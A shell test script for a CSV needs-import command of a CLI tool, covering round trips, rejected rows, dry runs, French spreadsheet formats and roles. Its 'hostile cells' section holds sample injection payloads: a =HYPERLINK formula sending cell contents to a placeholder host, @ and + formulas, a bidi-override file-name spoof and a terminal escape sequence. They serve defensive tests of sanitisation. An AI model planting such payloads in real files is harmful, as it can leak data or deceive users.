# test-need-import: `cercle need import FILE.csv --as LOGIN`: the demo's
# needs exported (need list --csv, the data package's needs) and imported
# into a fresh hub come back the same, with the same counts; rejected rows
# are reported by line and nothing is imported; --dry-run and a refused
# file change nothing (the journal head stays); external_id makes the
# same file twice add nothing; CSV as spreadsheets write it (BOM, CRLF,
# ';', quotes, line breaks in cells, French headers); bad UTF-8 refused
# with its line; formulas, control characters and bidi are imported
# safely and exported neutralised; roles; one journal entry per need.
. "$(dirname "$0")/lib.sh"
export CERCLE_NOW=1796630400	# 2026-12-07
SRC="$TEST_TMP/src"
cx() { DB=$1; shift; c "$@"; DB="$TEST_TMP/db"; }
fresh() {
	"$CERCLE_BIN" --db "$1" init >/dev/null 2>&1 &&
	"$CERCLE_BIN" --db "$1" member add corr --name "Corres Pondant" \
	    --role correspondent --territory Azur >/dev/null &&
	"$CERCLE_BIN" --db "$1" member add obs --name "Ob Servateur" \
	    --role observer >/dev/null
}
head_of() { "$CERCLE_BIN" --db "$1" journal head 2>/dev/null; }

cx "$SRC" demo
check "a demo hub" [ "$RC" -eq 0 ]
cx "$SRC" need list --csv
cp "$OUT" "$TEST_TMP/list.csv"
cx "$SRC" need list --json
cp "$OUT" "$TEST_TMP/src.json"
cx "$SRC" export --format datapackage --to "$TEST_TMP/dp"
check "a data package" [ "$RC" -eq 0 ]
DPCSV=$(ls "$TEST_TMP"/dp/*_besoins.csv)

# ---- the round trip ----
fresh "$TEST_TMP/a" && fresh "$TEST_TMP/b" && fresh "$DB" ||
    { echo "Bail out! init failed"; exit 1; }
cx "$TEST_TMP/a" need import "$TEST_TMP/list.csv" --as corr
check "need list --csv imports (exit 0)" [ "$RC" -eq 0 ]
check "the report counts the rows" out_has "320 rows: 317 added, 0 already imported, 3 merged duplicates left out, 0 rejected"
check "it warns that rows without external_id would come again" err_has "317 rows have no external_id"
cx "$TEST_TMP/a" need list --json
cp "$OUT" "$TEST_TMP/a.json"
cx "$TEST_TMP/b" need import "$DPCSV" --as corr
check "the data package's needs import (exit 0)" [ "$RC" -eq 0 ]
cx "$TEST_TMP/b" need list --json
cp "$OUT" "$TEST_TMP/b.json"
cx "$TEST_TMP/a" journal --json
cp "$OUT" "$TEST_TMP/a-journal.json"

/usr/bin/python3 - "$TEST_TMP" >"$TEST_TMP/py" <<'PY'
import json, sys
from collections import Counter
d = sys.argv[1]
K = ["title", "description", "territory", "category", "public", "source",
     "round", "insee", "external_id", "created"]
src = [n for n in json.load(open(d + "/src.json"))["needs"]
       if n["status"] != "merged"]
def rows(L): return sorted(tuple(json.dumps(n[k]) for k in K) for n in L)
def say(c, m): print("%d %s" % (1 if c else 0, m))
for name in ("a", "b"):
    got = json.load(open(d + "/%s.json" % name))["needs"]
    say(len(got) == len(src) == 317, "%s: 317 needs (%d)" % (name, len(got)))
    say(rows(got) == rows(src), "%s: the same needs, field by field" % name)
    for k in ("territory", "category", "public", "source", "round"):
        say(Counter(n[k] for n in got) == Counter(n[k] for n in src),
            "%s: the same counts by %s" % (name, k))
    say(all(n["status"] == "reported" for n in got),
        "%s: imported needs start reported" % name)
j = json.load(open(d + "/a-journal.json"))
j = j["entries"] if isinstance(j, dict) else j
imp = [e for e in j if e.get("op") == "need.import"]
say(len(imp) == 317, "one need.import journal entry per need (%d)" % len(imp))
PY
check "the round-trip checks ran" [ "$(wc -l <"$TEST_TMP/py")" -eq 17 ]
while read -r good msg; do
	check "$msg" [ "$good" = 1 ]
done <"$TEST_TMP/py"

# ---- rejected rows, all or nothing, --dry-run, --skip-invalid ----
printf 'title,territory,category,public,source,round,insee,external_id\n%s\n%s\n%s\n%s\n%s\n%s\n%s\n' \
    'Pas de wifi,alpes,accès aux droits,SENIOR,Focus Group,2026-B3,04070,f-1' \
    'Lune,Lune,,,,,,f-2' \
    '"Sur deux' \
    'lignes",Azur,catégorie inconnue,,,,,f-3' \
    'Mauvaise campagne,Azur,,,,2026-B9,,f-4' \
    'Mauvais code,Azur,,,,,99999X,f-5' \
    ',Azur,,,,,,f-6' >bad.csv
H0=$(head_of "$DB")
expect 2 "a file with invalid rows is refused (exit 2)" need import bad.csv --as corr
check "the territory row, by its line" err_has "bad.csv:3: unknown territory 'Lune'"
check "a row over two lines, by its first line" err_has "bad.csv:4: title contains a control character (U+000A"
check "a bad round" err_has "bad.csv:6: a round is written YYYY-Bn"
check "a bad INSEE code" err_has "bad.csv:7: '99999X' is not an INSEE commune code"
check "no title" err_has "bad.csv:8: a need needs a title"
check "nothing imported, said on the last line" sh -c "tail -1 '$ERR' | grep -q '5 rows rejected: nothing imported'"
check "the journal head is unchanged" [ "$(head_of "$DB")" = "$H0" ]
expect 2 "--dry-run reports the same" need import bad.csv --as corr --dry-run
check "the same rejected lines" [ "$(grep -c 'bad.csv:' "$ERR")" -eq 5 ]
expect 0 "--dry-run --skip-invalid" need import bad.csv --as corr --dry-run --skip-invalid --json
check "it would add one" out_has '"added":1,'
check "with no id, none being kept" sh -c "! grep -q '\"outcome\":\"added\",\"id\"' '$OUT'"
check "rows with their line and outcome" out_has '{"line":3,"outcome":"rejected","reason":"unknown territory'
check "the dry run changed nothing" [ "$(head_of "$DB")" = "$H0" ]
expect 0 "no need was written" need list --json
check "empty queue" out_has '"needs":[]'
expect 0 "--skip-invalid imports the valid row" need import bad.csv --as corr --skip-invalid
check "one added, five rejected" out_has "6 rows: 1 added, 0 already imported, 5 rejected"
expect 0 "the imported need" need show 1
check "values matched as people type them (alpes, SENIOR, Focus Group)" sh -c \
    "grep -q '^territory: *Alpes' '$OUT' && grep -q '^public: *senior' '$OUT' && grep -q '^source: *focus group' '$OUT'"
check "its INSEE code" grep -q '^insee: *04070' "$OUT"
check "need show gives the external id" grep -q '^external id: *f-1' "$OUT"
H1=$(head_of "$DB")
expect 0 "the same file again" need import bad.csv --as corr --skip-invalid
check "adds nothing: already imported" out_has "6 rows: 0 added, 1 already imported, 5 rejected"
check "the journal head is unchanged" [ "$(head_of "$DB")" = "$H1" ]

# ---- as spreadsheets write it ----
printf '\357\273\277Titre;Territoire;Catégorie;Public concerné;Origine;Campagne;Code INSEE;Id externe;Date;Description\r\n%s\r\n%s\r\n\r\n%s\r\n' \
    '"Pas d’accès ; au ""guichet""";Azur;accès aux droits;;;2026-B2;06088;p-1;04/03/2026;"première ligne' \
    'seconde ligne"' \
    'Autre;Avignon;;;;;;p-2;2026-05-06T07:08:09Z;' >fr.csv
expect 0 "a French spreadsheet's CSV (BOM, CRLF, ';', quotes)" need import fr.csv --as corr
check "two added" out_has "2 rows: 2 added"
expect 0 "as JSON" need list --json
/usr/bin/python3 - "$OUT" >"$TEST_TMP/py" <<'PY'
import json, sys
n = {x["external_id"]: x for x in json.load(open(sys.argv[1]))["needs"]}
def say(c, m): print("%d %s" % (1 if c else 0, m))
a = n.get("p-1", {})
say(a.get("title") == 'Pas d’accès ; au "guichet"', "quotes and ';' in a cell")
say(a.get("description") == "première ligne\nseconde ligne", "a line break in a cell (CRLF read as LF)")
say(a.get("created") == "2026-03-04T12:00:00Z" and a.get("round") == "2026-B2", "a French date, the round given")
b = n.get("p-2", {})
say(b.get("created") == "2026-05-06T07:08:09Z" and b.get("round") == "2026-B3", "an ISO 8601 date gives the round")
PY
while read -r good msg; do
	check "$msg" [ "$good" = 1 ]
done <"$TEST_TMP/py"
printf 'title,territory\nbon,Azur\n"mal \351crit",Azur\n' >latin1.csv
H2=$(head_of "$DB")
expect 1 "a file in Latin-1 is refused (exit 1)" need import latin1.csv --as corr
check "with the line of the bad byte" err_has "line 3: not valid UTF-8"
check "on one line" err_one_line
printf 'title,territory,couleur\nx,Azur,bleu\n' >unknown.csv
expect 1 "an unknown column (exit 1)" need import unknown.csv --as corr
check "names it, on one line" sh -c "grep -q \"unknown column 'couleur'\" '$ERR' && [ \$(wc -l <'$ERR') -eq 1 ]"
printf 'title,territory\n"jamais fermé,Azur\n' >open.csv
expect 1 "a quote left open" need import open.csv --as corr
check "its line" err_has "line 2: a quoted cell is not closed"
printf 'title,territory,territoire\nx,Azur,Alpes\n' >twice.csv
expect 1 "two columns for one field" need import twice.csv --as corr
check "says which" err_has "columns 2 and 3 both give the territory"
printf 'title,territory,,\nvide,Azur,,\nplein,Azur,,x\n' >trailing.csv
expect 2 "empty columns at the end are fine, a value in them is not" need import trailing.csv --as corr
check "the row with a value there" err_has "trailing.csv:3: a value in column 4, which has no name"
check "only that one" [ "$(grep -c 'trailing.csv:' "$ERR")" -eq 1 ]
printf 'title,,territory\nx,,Azur\n' >hole.csv
expect 1 "a column without a name between named ones" need import hole.csv --as corr
check "says which" err_has "line 1: column 2 has no name"
printf 'title,description\nx,y\n' >noterr.csv
expect 1 "no territory column" need import noterr.csv --as corr
printf 'title,territory,external_id\nx,Azur,d-1\ny,Azur,d-1\n' >dup.csv
expect 2 "one external id on two rows" need import dup.csv --as corr
check "names the first line" err_has "dup.csv:3: external id 'd-1' is on line 2 already"
check "nothing changed by the refused files" [ "$(head_of "$DB")" = "$H2" ]
expect 1 "a missing file" need import nosuch.csv --as corr
check "one line" err_one_line

# ---- roles ----
expect 1 "without --as" need import fr.csv
expect 2 "an observer may not report needs" need import fr.csv --as obs
check "says so" err_has "obs may not import needs"

# ---- hostile cells ----
printf 'title,territory,description,external_id\n%s\n%s\n%s\n%s\n' \
    '=HYPERLINK("http://x.example/?"&A1;"clic"),Azur,@SUM(1+1),h-1' \
    "$(printf 'Bidi \342\200\256gnp.exe,Azur,+33 6 00 00 00 00,h-2')" \
    "$(printf 'Esc \033[2J,Azur,,h-3')" \
    "'-1 moins,Azur,-ok,h-4" >hostile.csv
expect 2 "a control character in a title is a rejected row" need import hostile.csv --as corr
check "with its line" err_has "hostile.csv:4: title contains a control character"
check "the report itself is inert (no ESC on the terminal)" sh -c "! grep -q \"\$(printf '\\033')\" '$ERR'"
expect 0 "the others with --skip-invalid" need import hostile.csv --as corr --skip-invalid
check "three added" out_has "4 rows: 3 added"
expect 0 "exported as CSV" export --format csv --what needs
check "a formula is neutralised" out_has "\"'=HYPERLINK("
check "@ and + too" sh -c "grep -qF \"'@SUM(1+1)\" '$OUT' && grep -qF \"'+33 6\" '$OUT'"
check "no bidi override written raw" sh -c "! grep -q \"\$(printf '\\342\\200\\256')\" '$OUT'"
check "our own leading quote is taken off on import, put back on export" out_has "'-1 moins"
expect 0 "the stored title" need list --json
check "is as typed" out_has '"title":"-1 moins"'
expect 0 "the data package too" export --format datapackage --to dp2
check "neutralised there" grep -qF "'=HYPERLINK(" dp2/*_besoins.csv
check "the datapackage describes external_id" grep -q '"name": *"external_id"' dp2/datapackage.json
check "the README too" grep -q 'external_id' dp2/README.md
expect 0 "verify" verify
done_testing
